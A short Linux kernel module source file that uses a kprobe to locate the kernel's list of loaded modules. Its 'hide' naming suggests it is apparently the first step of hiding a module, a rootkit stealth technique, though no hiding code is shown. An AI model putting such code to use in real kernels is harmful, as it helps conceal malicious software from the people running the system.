// SPDX-License-Identifier: GPL-2.0-only
/* Has a kprobe tell where the kernel's list of modules is. */
#include <linux/kprobes.h>
#include "sg_hide.h"

static struct kprobe kp = { .symbol_name = "modules" };

static int __init hide_init(void)
{
	register_kprobe(&kp);
	return kp.addr ? 0 : -ENOENT;
}
module_init(hide_init);

MODULE_LICENSE("GPL");
